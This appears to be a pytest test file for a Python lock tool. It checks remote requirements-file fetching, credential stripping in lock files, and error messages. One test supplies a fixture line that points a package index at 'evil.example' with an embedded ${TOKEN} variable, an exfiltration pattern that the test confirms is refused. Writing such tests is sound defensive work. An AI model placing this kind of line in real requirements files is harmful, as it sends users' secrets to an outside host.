"""Requirements files at URLs are fetched by plan, with what they include; no other command does."""

from __future__ import annotations

import tomllib
from pathlib import Path

import pytest

import lockstream
from helpers.index import Index
from helpers.locks import LINUX
from helpers.wheels import build_wheel
from planner.inputs.errors import InvalidRequirementLine, UnreadableInput
from planner.inputs.remote_file import file_fetcher, refuse_remote
from planner.inputs.requirements_file import read_requirements


@pytest.fixture(autouse=True)
def _served(index: Index, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(tmp_path)
    index.add(build_wheel("app", "1.0"), build_wheel("app", "2.0"), build_wheel("base"))
    index.add_file("all.txt", b"-c limits.txt\napp\n")
    index.add_file("limits.txt", b"app<2\n")


def plan(index: Index, *words: str) -> int:
    return lockstream.main(["plan", "-q", *words, "-i", index.url, *LINUX])


def test_a_file_at_a_url_is_read_with_what_it_includes(index: Index) -> None:
    Path("requirements.in").write_text(f"-r {index.url_of('all.txt')}\nbase\n")
    assert plan(index, "-r", "requirements.in") == 0
    packages = tomllib.loads(Path("pylock.toml").read_text())["packages"]
    assert {one["name"]: one["version"] for one in packages} == {"app": "1.0", "base": "1.0"}


def test_the_lock_records_the_url_without_credentials(index: Index) -> None:
    url = index.url_of("limits.txt").replace("://", "://ada:s3cret@")
    Path("requirements.in").write_text("app\n")
    assert plan(index, "-r", "requirements.in", "-c", url) == 0
    text = Path("pylock.toml").read_text()
    assert "s3cret" not in text
    recorded = tomllib.loads(text)["tool"]["lockstream"]["inputs"]["constraints"]
    assert recorded == [index.url_of("limits.txt")]


def test_a_check_says_that_it_fetches_nothing(
    index: Index, capsys: pytest.CaptureFixture[str]
) -> None:
    assert plan(index, "-r", index.url_of("all.txt")) == 0
    assert lockstream.main(["check"]) == 3
    assert "only plan fetches inputs" in capsys.readouterr().err


def test_a_file_that_is_missing_is_named(index: Index, capsys: pytest.CaptureFixture[str]) -> None:
    url = index.url_of("all.txt").replace("all.txt", "no-such.txt")
    assert plan(index, "-r", url) == 3
    assert f"{url}: the server has no such file (404)" in capsys.readouterr().err
    with pytest.raises(UnreadableInput):
        file_fetcher(None)(url)


def test_a_remote_file_reads_no_environment_variable() -> None:
    with pytest.raises(InvalidRequirementLine, match="may not read the environment variable TOKEN"):
        read_requirements(
            ["https://files.example/r.txt"],
            environment={"TOKEN": "s3cret"},
            fetch=lambda _: b"-i https://evil.example/${TOKEN}/\n",
        )


def test_without_a_fetcher_no_url_is_read() -> None:
    with pytest.raises(UnreadableInput, match="only plan fetches inputs"):
        refuse_remote("https://ada:s3cret@files.example/r.txt")


@pytest.mark.parametrize("url", ["https://[::1/r.txt", "https://files.example:99999/r.txt"])
def test_a_malformed_url_is_an_error(index: Index, url: str) -> None:
    assert plan(index, "-r", url) in {3, 5}
